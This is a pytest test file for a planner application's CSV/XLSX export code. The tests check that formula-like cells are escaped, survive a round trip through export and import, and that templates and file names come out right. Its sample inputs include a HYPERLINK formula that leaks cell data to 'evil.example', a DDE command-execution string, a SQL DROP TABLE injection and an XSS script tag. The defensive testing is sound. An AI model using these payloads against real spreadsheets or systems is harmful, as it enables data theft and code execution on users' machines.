"""Exports: formula-safe CSV/XLSX that re-import unchanged, and import templates."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nlf_planner.exports_tables import (
    DICTIONARY_SHEET,
    FORMULA_PREFIXES,
    ColumnDoc,
    escape_formula,
    needs_escape,
    table_dictionary,
    table_export,
    template_csv,
    template_xlsx,
    to_csv_bytes,
    to_xlsx_bytes,
    unescape_formula,
)
from nlf_planner.imports import read_table

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "'plain apostrophe",
    "Robert'); DROP TABLE measurements;--",
    "<script>alert('x')</script>",
    'ordinary text, with a comma and "quotes"',
]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "text": INJECTIONS,
            "number": [float(i) - 3.5 for i in range(len(INJECTIONS))],
            "when": [date(2024, 4, 1)] * len(INJECTIONS),
        }
    )


@given(st.text(max_size=40))
@settings(max_examples=300, deadline=None)
def test_escape_is_reversible_and_never_starts_with_a_formula_character(text):
    escaped = escape_formula(text)
    assert unescape_formula(escaped) == text
    assert not escaped.startswith(FORMULA_PREFIXES)


def test_escape_leaves_numbers_and_safe_text_alone():
    assert escape_formula(-5.0) == -5.0
    assert escape_formula("Midlands") == "Midlands"
    assert escape_formula("-5") == "'-5"


def test_csv_cells_are_prefixed_so_a_spreadsheet_shows_text():
    data = to_csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens UTF-8 correctly
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    texts = [r[0] for r in rows[1:]]
    for cell in texts:
        assert not cell.startswith(FORMULA_PREFIXES), cell
    assert texts[0] == "'=1+1"
    assert rows[1][1] == "-3.5"  # real numbers stay numbers
    assert rows[1][2] == "2024-04-01"


def test_formula_strings_round_trip_through_csv_export_and_import():
    table = read_table(to_csv_bytes(_frame()), "export.csv")
    assert table.df["text"].tolist() == INJECTIONS  # exactly, leading tab included


def test_xlsx_cells_are_text_with_quote_prefix_and_never_formulas():
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"audit": _frame()})))
    ws = wb["audit"]
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == INJECTIONS
    for c in cells:
        assert c.data_type == "s"
        assert c.quotePrefix == needs_escape(c.value)
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_formula_strings_round_trip_through_xlsx_export_and_import():
    table = read_table(to_xlsx_bytes({"audit": _frame()}), "export.xlsx")
    # Spreadsheet cells are trimmed on import; nothing else changes.
    assert table.df["text"].tolist() == [s.strip() for s in INJECTIONS]


def test_xlsx_handles_missing_values_dates_and_long_sheet_names():
    df = pd.DataFrame(
        {"a": [1.0, float("nan")], "b": [pd.Timestamp("2024-04-01"), pd.NaT], "c": [None, True]}
    )
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"x" * 40: df, "x" * 40 + "y": df})))
    assert len(wb.sheetnames) == 2 and all(len(n) <= 31 for n in wb.sheetnames)
    ws = wb[wb.sheetnames[0]]
    assert ws["A3"].value is None and ws["B3"].value is None
    assert isinstance(ws["B2"].value, datetime)


def test_table_export_names_and_formats():
    data, name, mime = table_export(_frame(), "audit_log", "csv")
    assert name.startswith("nlf-audit_log-") and name.endswith(".csv") and mime == "text/csv"
    data, name, mime = table_export(_frame(), "audit_log", "xlsx")
    assert name.endswith(".xlsx") and data[:2] == b"PK"
    with pytest.raises(ValueError, match="csv or xlsx"):
        table_export(_frame(), "audit_log", "pdf")


def test_template_has_the_data_sheet_dictionary_and_code_lists():
    cols = [
        ColumnDoc("measure_code", "text", True, "Measure code", "M08"),
        ColumnDoc("value", "number", False, "The figure", "8"),
    ]
    lookups = {"Measures": pd.DataFrame({"code": ["M08"], "name": ["Vacancies"]})}
    data = template_xlsx("measurements", cols, [{"measure_code": "M08", "value": 8}], lookups)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["measurements", DICTIONARY_SHEET, "Measures"]
    dictionary = list(wb[DICTIONARY_SHEET].values)
    assert dictionary[0] == ("column", "type", "required", "description", "example")
    assert dictionary[1][:3] == ("measure_code", "text", "yes")
    # The importer picks the data sheet of its own template without asking.
    table = read_table(data, "template.xlsx")
    assert table.sheet == "measurements"
    assert table.df.to_dict("records") == [{"measure_code": "M08", "value": "8"}]
    csv_table = read_table(template_csv(cols, [{"measure_code": "M08", "value": 8}]), "t.csv")
    assert list(csv_table.df.columns) == ["measure_code", "value"]


def test_table_dictionary_describes_known_tables():
    df = table_dictionary({"measurements": [("measure_code", "VARCHAR")], "other": [("x", "INT")]})
    assert df.loc[0, "table_description"].startswith("Measurement history")
    assert df.loc[1, "table_description"] == ""


def test_xlsx_export_copes_with_columns_that_are_empty_at_the_top() -> None:
    import io

    import openpyxl
    import pandas as pd

    from nlf_planner.exports_tables import to_xlsx_bytes

    frame = pd.DataFrame(
        {"ci_low": pd.array([pd.NA] * 3, dtype="Float64"), "text": [None, "a", "bb"]}
    )
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes({"measurements": frame})))
    sheet = book.worksheets[0]
    assert [c.value for c in sheet[1]][:2] == ["ci_low", "text"]


def test_export_file_names_carry_the_table_and_the_day():
    from nlf_planner.exports_tables import export_file_name

    assert export_file_name("regions", "csv", date(2026, 11, 30)) == "nlf-regions-20261130.csv"
    _, name, mime = table_export(pd.DataFrame({"a": [1]}), "regions", "xlsx")
    assert name == export_file_name("regions", "xlsx") and mime.endswith("spreadsheetml.sheet")


def test_excel_holds_a_limited_number_of_rows():
    from nlf_planner.exports_tables import EXCEL_MAX_ROWS, fits_excel

    assert fits_excel(EXCEL_MAX_ROWS) and not fits_excel(EXCEL_MAX_ROWS + 1)


def test_tables_overview_gives_each_table_its_size_and_columns():
    from nlf_planner.exports_tables import tables_overview

    overview = tables_overview(
        {"regions": [("code", "VARCHAR"), ("name", "VARCHAR")], "new_table": [("x", "INT")]},
        {"regions": 7},
    )
    assert overview.to_dict("records") == [
        {
            "table": "regions",
            "what it holds": "The 7 NHS England regions (ONS and ODS codes).",
            "rows": 7,
            "columns": "code, name",
        },
        {"table": "new_table", "what it holds": "", "rows": 0, "columns": "x"},
    ]


def test_control_characters_stored_before_the_input_rule_still_export_to_excel():
    """A name like 'Acme\\x1bTrust' once broke every Excel export of its table: the
    characters Excel forbids are dropped, tab and line breaks are kept, CSV keeps all."""
    df = pd.DataFrame({"na\x00me": ["Acme\x1bTrust", "line 1\nline 2\tend", "bell\x07"]})
    data = to_xlsx_bytes({"stake\x1bholders": df})
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    assert ws.title == "stakeholders"
    assert [c.value for c in ws["A"]] == ["name", "AcmeTrust", "line 1\nline 2\tend", "bell"]
    assert "Acme\x1bTrust" in to_csv_bytes(df).decode("utf-8-sig")
